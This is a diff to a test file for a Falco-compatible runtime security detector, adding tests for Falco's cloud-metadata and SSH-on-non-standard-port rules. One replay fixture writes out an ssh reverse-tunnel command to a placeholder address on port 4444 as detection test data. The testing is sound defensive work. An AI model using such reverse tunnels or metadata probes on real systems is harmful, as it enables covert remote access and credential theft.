@@ -3,6 +3,7 @@ live detection under the real tracer, false positives, and offline replay.
 
 The upstream Falco rules are read from ../shared/upstream/falco-rules (as in CI).
 """
+import errno
 import json
 import os
 import subprocess
@@ -33,10 +34,10 @@ def alerts_of(stdout):
 
 
 @pytest.mark.parametrize("files,rules,enabled", [
-    ([STABLE], 25, 23),
-    ([INCUBATING], 31, 24),
+    ([STABLE], 25, 24),
+    ([INCUBATING], 31, 25),
     ([SANDBOX], 37, 22),
-    ([STABLE, INCUBATING, SANDBOX], 93, 69),
+    ([STABLE, INCUBATING, SANDBOX], 93, 71),
 ])
 def test_upstream_files_load(vigil_bin, files, rules, enabled):
     r = run(vigil_bin, "rules", "validate", "--json", *files)
@@ -310,12 +311,59 @@ def test_metadata_endpoint_detected_in_replay(vigil_bin, tmp_path):
     alerts = alerts_of(r.stdout)
     assert [a["rule"] for a in alerts] == ["Vigil cloud metadata contacted"], (alerts, r.stderr)
     assert alerts[0]["output_fields"]["fd.sip"] == "169.254.169.254"
-    # Falco's own metadata rule stays disabled: its `outbound` macro (as the
-    # incubating file redefines it) needs fd.connected/fd.name_changed.
-    r = run(vigil_bin, "rules", "list", "--rules", STABLE, "--rules", INCUBATING)
-    row = [l for l in r.stdout.splitlines()
-           if l.startswith("Contact EC2 Instance Metadata Service From Container\t")]
-    assert row and row[0].split("\t")[1].startswith("needs field fd."), row
+    # Falco's own metadata rule too (its `outbound` macro reads
+    # fd.connected/fd.name_changed, which vigil produces for connect).
+    r = run(vigil_bin, "replay", "--rules", STABLE, "--rules", INCUBATING, events)
+    assert r.returncode == 0, r.stderr
+    assert [a["rule"] for a in alerts_of(r.stdout)] == \
+        ["Contact EC2 Instance Metadata Service From Container"], (r.stdout, r.stderr)
+
+
+def test_ssh_to_a_non_standard_port_detected_live(vigil_bin, tmp_path):
+    """The same rule on a real non-blocking connect, in a network namespace
+    whose default route is the loopback device (the SYN goes nowhere, the
+    connect is in progress); argv[0] is ssh, as for a real ssh client."""
+    client = tmp_path / "client.py"
+    client.write_text("import socket\nc = socket.socket()\nc.setblocking(False)\n"
+                      "print('connect', c.connect_ex(('203.0.113.9', 4444)))\n")
+    inner = (f"ip link set lo up && ip route add default dev lo && exec {vigil_bin} -q "
+             f"--rules {STABLE} -- bash -c 'exec -a ssh /usr/bin/python3 {client}'")
+    r = subprocess.run(["unshare", "-n", "sh", "-c", inner], capture_output=True, text=True,
+                       timeout=60)
+    assert r.returncode == 0, r.stderr
+    assert f"connect {errno.EINPROGRESS}" in r.stdout, r.stdout
+    fired = [a for a in alerts_of(r.stdout) if a["rule"] == "Disallowed SSH Connection Non Standard Port"]
+    assert len(fired) == 1, (r.stdout, r.stderr)
+    assert fired[0]["output_fields"]["fd.name"] == "203.0.113.9:4444"
+
+
+def test_ssh_to_a_non_standard_port_detected_in_replay(vigil_bin, tmp_path):
+    """Falco's stable rule for SSH reverse tunnels (port 4444 here): the
+    socket() tells fd.l4proto, the non-blocking connect is in progress."""
+    proc = {"proc.pid": 77, "thread.tid": 77, "proc.ppid": 1, "proc.name": "ssh",
+            "proc.exe": "/usr/bin/ssh", "proc.exepath": "/usr/bin/ssh",
+            "proc.args": "-p 4444 -R 9000:localhost:22 x@203.0.113.9",
+            "proc.aname": ["ssh", "sh"], "proc.apid": [77, 1], "user.uid": 0, "group.gid": 0}
+    sock = {"evt.num": 1, "evt.rawtime": 1795626865317754788, "evt.type": "socket", "evt.dir": "<",
+            "evt.res": 3, "evt.arch": "x86_64", "evt.arg.domain": "AF_INET",
+            "evt.arg.type": "SOCK_STREAM", "evt.arg.proto": "0", "fd.num": 3, **proc}
+    conn = {"evt.num": 2, "evt.rawtime": 1795626865317854788, "evt.type": "connect", "evt.dir": "<",
+            "evt.res": -errno.EINPROGRESS, "evt.arch": "x86_64", "evt.arg.fd": "3", "fd.num": 3,
+            "fd.name": "203.0.113.9:4444", "fd.type": "ipv4", "fd.dip": "203.0.113.9",
+            "fd.dport": 4444, **proc}
+    events = tmp_path / "ev.ndjson"
+    events.write_text(json.dumps(sock) + "\n" + json.dumps(conn) + "\n")
+    r = run(vigil_bin, "replay", "--rules", STABLE, events)
+    assert r.returncode == 0, r.stderr
+    alerts = alerts_of(r.stdout)
+    assert [a["rule"] for a in alerts] == ["Disallowed SSH Connection Non Standard Port"], \
+        (r.stdout, r.stderr)
+    assert "connection=203.0.113.9:4444" in alerts[0]["output"]
+    # A refused connect names nothing and connects nothing: no alert.
+    conn["evt.res"] = -errno.ECONNREFUSED
+    events.write_text(json.dumps(sock) + "\n" + json.dumps(conn) + "\n")
+    r = run(vigil_bin, "replay", "--rules", STABLE, events)
+    assert alerts_of(r.stdout) == [], r.stdout
 
 
 def test_trusted_server_reading_secrets_after_startup(vigil_bin, tmp_path):
